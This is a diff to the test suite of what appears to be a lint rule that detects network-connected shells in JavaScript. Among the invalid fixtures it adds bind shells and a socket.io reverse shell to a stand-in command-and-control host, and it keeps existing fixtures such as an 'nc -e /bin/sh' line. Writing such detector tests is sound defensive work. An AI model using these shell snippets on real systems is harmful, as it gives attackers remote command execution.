@@ -34,6 +34,9 @@ await ruleTester(rule, {
     js("cp.spawn('bash', ['-i'], { stdio: 'inherit' });"),
     js("import net from 'node:net';\nnet.connect(1, 'db.acme.example');\ncp.spawn('bash', ['-c', 'npm test']);"),
     js("import net from 'node:net';\nnet.connect(9229, 'localhost');\ncp.spawn('bash', ['-i']);"),
+    { code: `const net = require('net'); const server = net.createServer(); server.on('connection', (s) => s.pipe(s)); server.on('error', () => {}); server.listen(0);` },
+    { code: `server.on('connection', (s) => { const c = require('child_process').spawn('git-upload-pack', ['.']); s.pipe(c.stdin); c.stdout.pipe(s); }); const server = require('net').createServer();` },
+    { code: `const io = require('socket.io-client'); const s = io('https://chat.example.org'); s.on('message', (m) => render(m)); s.emit('hello', { name: 'x' });` },
   ],
   invalid: [
     { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => { const sh = spawn(process.env.SHELL, []); c.pipe(sh.stdin); sh.stdout.pipe(c); }).listen(31337);', errors: [{ messageId: 'code' }] },
@@ -71,5 +74,8 @@ await ruleTester(rule, {
     bad(js("const s = require('net').createConnection(1, 'evil.example');\nconst p = require('child_process')['spawn']('ba' + 'sh');\np.stdout.pipe(s);"), 'code'),
     bad(js(`cp.spawn('bash', ['-c', '${DEVICE}']);`), 'shell'),
     bad(js("import { $ } from 'zx';\nawait $`nc -e /bin/sh 203.0.113.7 4444`;"), 'shell'),
+    { code: `const server = require('net').createServer(); server.on('connection', (s) => { const p = require('child_process').spawn('sh'); s.pipe(p.stdin); p.stdout.pipe(s); }); server.listen(9000);`, errors: [{ messageId: 'code' }] },
+    { code: `const io = require('socket.io-client')('https://c2.example.org'); const sh = require('child_process').spawn('bash'); io.on('in', (d) => sh.stdin.write(d)); sh.stdout.on('data', (d) => io.emit('out', d));`, errors: [{ messageId: 'code' }] },
+    { code: `const net = require('net'); const srv = new net.Server(); srv.on('connection', function (c) { const sh = require('child_process').spawn('/bin/sh', ['-i']); c.pipe(sh.stdin); sh.stdout.pipe(c); }); srv.listen(1);`, errors: [{ messageId: 'code' }] },
   ],
 });
